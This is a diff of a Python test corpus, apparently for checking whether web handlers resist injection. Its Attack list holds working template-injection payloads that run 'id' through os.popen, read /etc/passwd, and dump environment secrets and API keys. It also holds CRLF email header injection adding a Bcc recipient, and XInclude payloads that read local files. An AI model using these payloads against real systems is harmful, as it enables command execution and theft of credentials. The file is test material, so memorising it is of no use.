@@ -17,6 +17,7 @@ from tests.honest.corpus.sixth import (
     SHELLISH,
     SQL_NOTE,
     TEMPLATISH,
+    balancer,
     bus,
     http,
     rest,
@@ -43,10 +44,12 @@ def _remind(template: str, customer: object = IRISH) -> dict[str, object]:
 
 
 def _lost(path: str) -> dict[str, object]:
-    return rest("GET", "/404", query={"from": path})
+    return balancer("GET", "/404", **{"from": path})
 
 
-def _contact(subject: str, text: str = "x", sender: str = "ann@example.org", **more: str) -> dict[str, object]:
+def _contact(
+    subject: str, text: str = "x", sender: str = "ann@example.org", **more: str
+) -> dict[str, object]:
     return http("POST", "/contact", {"subject": subject, "text": text, "email": sender, **more})
 
 
@@ -64,7 +67,9 @@ REQUESTS = {
         _card("5 % off for {you} & $me", "<%! import os %>"),
     ],
     "reminder": [
-        _remind("Dear {{ customer|title }}, you owe {{ '%.2f'|format(total) }} €{% if total > 5 %}!{% endif %}"),
+        _remind(
+            "Dear {{ customer|title }}, you owe {{ '%.2f'|format(total) }} €{% if total > 5 %}!{% endif %}"
+        ),
         _remind("{# note #}It's {{ total * 2 }}; {% set x = customer.split(' ') %}{{ x|join('-') }}"),
         _remind("No tags: SELECT, $(id), ${x}, %s", "{{ ''.__class__ }}"),
     ],
@@ -89,7 +94,9 @@ REQUESTS = {
     ],
     "contact_raw": [
         _contact("Re: Bcc: and Cc: -- who gets it?", SHELLISH),
-        _contact("It's 100% broken; {x}", "Bcc: eve@example.net\r\n\r\n.\r\nQUIT", "o'brien+shop@example.org"),
+        _contact(
+            "It's 100% broken; {x}", "Bcc: eve@example.net\r\n\r\n.\r\nQUIT", "o'brien+shop@example.org"
+        ),
         _contact(JSON_TEXT, MARKDOWN),
     ],
     "contact": [
@@ -115,7 +122,9 @@ REQUESTS = {
         {"body": f"<m xmlns:xi='http://www.w3.org/2001/XInclude'><p><![CDATA[{SHELLISH}]]></p></m>"},
     ],
     "drawing": [
-        {"svg": "<svg xmlns='http://www.w3.org/2000/svg' width='9'><text>O'Brien; --</text><script>1</script></svg>"},
+        {
+            "svg": "<svg xmlns='http://www.w3.org/2000/svg' width='9'><text>O'Brien; --</text><script>1</script></svg>"
+        },
         {
             "svg": '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg width="7"><text>{{7*7}}</text></svg>',
             "entities": False,
@@ -126,11 +135,18 @@ POPEN = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
 ATTACKS = [
     Attack("template", "web", _invoice(POPEN), ID),
     Attack("template", "web", _invoice("{{ 7331*7331 }}"), "53743561"),
-    Attack("template", "web", _invoice("{{ to.__class__.__mro__[-1].__subclasses__()|length > 9 }}-yes"), "True-yes"),
     Attack(
         "template",
         "web",
-        _invoice("{% with o = lipsum.__globals__.__builtins__.open %}{{ o('/etc/passwd').read() }}{% endwith %}"),
+        _invoice("{{ to.__class__.__mro__[-1].__subclasses__()|length > 9 }}-yes"),
+        "True-yes",
+    ),
+    Attack(
+        "template",
+        "web",
+        _invoice(
+            "{% with o = lipsum.__globals__.__builtins__.open %}{{ o('/etc/passwd').read() }}{% endwith %}"
+        ),
         "root:x:0",
     ),
     Attack(
@@ -147,13 +163,16 @@ ATTACKS = [
         _remind("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
         ID,
     ),
-    Attack("template", "reminder", _remind("{{ namespace['__init__']['__globals__']['os']['environ'] }}"), "AWS_SECRET"),
     Attack(
         "template",
         "reminder",
-        _remind(
-            "{% set g = joiner.__init__.__globals__ %}{{ g.__builtins__.__import__('app').API_SECRET }}"
-        ),
+        _remind("{{ namespace['__init__']['__globals__']['os']['environ'] }}"),
+        "AWS_SECRET",
+    ),
+    Attack(
+        "template",
+        "reminder",
+        _remind("{% set g = joiner.__init__.__globals__ %}{{ g.__builtins__.__import__('app').API_SECRET }}"),
         SECRET,
     ),
     Attack("template", "router", _card("${__import__('os').popen('id').read()}"), ID),
@@ -162,20 +181,30 @@ ATTACKS = [
     Attack("template", "router", _card("${self.template.module.__loader__.__class__}-${31*1009}"), "31279"),
     Attack("template", "error_page", _lost("{{__import__('os').popen('id').read()}}"), ID),
     Attack("template", "error_page", _lost("\n% import os\n{{os.listdir('/etc')}}\n"), "passwd"),
-    Attack("template", "error_page", _lost("%7B%7Bopen%28%27%2Fetc%2Fpasswd%27%29.read%28%29%7D%7D"), "root:x:0"),
+    Attack("template", "error_page", _lost("{{!open('/etc/passwd').read()}}"), "root:x:0"),
     Attack("template", "error_page", _lost("{{!__import__('sys').modules['app'].API_SECRET}}"), SECRET),
     Attack("template", "flyer", {"slogan": "${open('/etc/passwd').read()}", "shop": "x"}, "root:x:0"),
-    Attack("template", "flyer", {"slogan": "<?python import os; x = os.popen('id').read() ?>${x}", "shop": "x"}, ID),
+    Attack(
+        "template",
+        "flyer",
+        {"slogan": "<?python import os; x = os.popen('id').read() ?>${x}", "shop": "x"},
+        ID,
+    ),
     Attack(
         "template",
         "flyer",
         {"slogan": "<u tal:content=\"python: __import__('app').API_SECRET\"/>", "shop": "x"},
         SECRET,
     ),
-    Attack("header", "contact_raw", _contact("x\r\nBcc: eve@example.net"), "eve@example.net"),
-    Attack("header", "contact_raw", _contact("x", "x", "a@example.org\nCc: eve@example.net"), "eve@example.net"),
+    Attack("header", "contact_raw", _contact("x\r\nBcc: eve@example.net"), '\\"eve@example.net\\"]'),
     Attack(
-        "header", "contact_raw", _contact("x\r\n To: y\r\nBCC: eve@example.net\r\n\r\nnew body"), "eve@example.net"
+        "header", "contact_raw", _contact("x", "x", "a@example.org\nCc: eve@example.net"), '\\"eve@example.net\\"]'
+    ),
+    Attack(
+        "header",
+        "contact_raw",
+        _contact("x\r\n To: y\r\nBCC: eve@example.net\r\n\r\nnew body"),
+        '\\"eve@example.net\\"]',
     ),
     Attack(
         "XInclude",
@@ -188,7 +217,9 @@ ATTACKS = [
     Attack(
         "XInclude",
         "manual",
-        {"body": '<m><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/no/such/part.xml"><i:fallback><i:include href="/etc/hosts" parse="text"/></i:fallback></i:include></m>'},
+        {
+            "body": '<m><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/no/such/part.xml"><i:fallback><i:include href="/etc/hosts" parse="text"/></i:fallback></i:include></m>'
+        },
         "localhost",
     ),
     Attack(
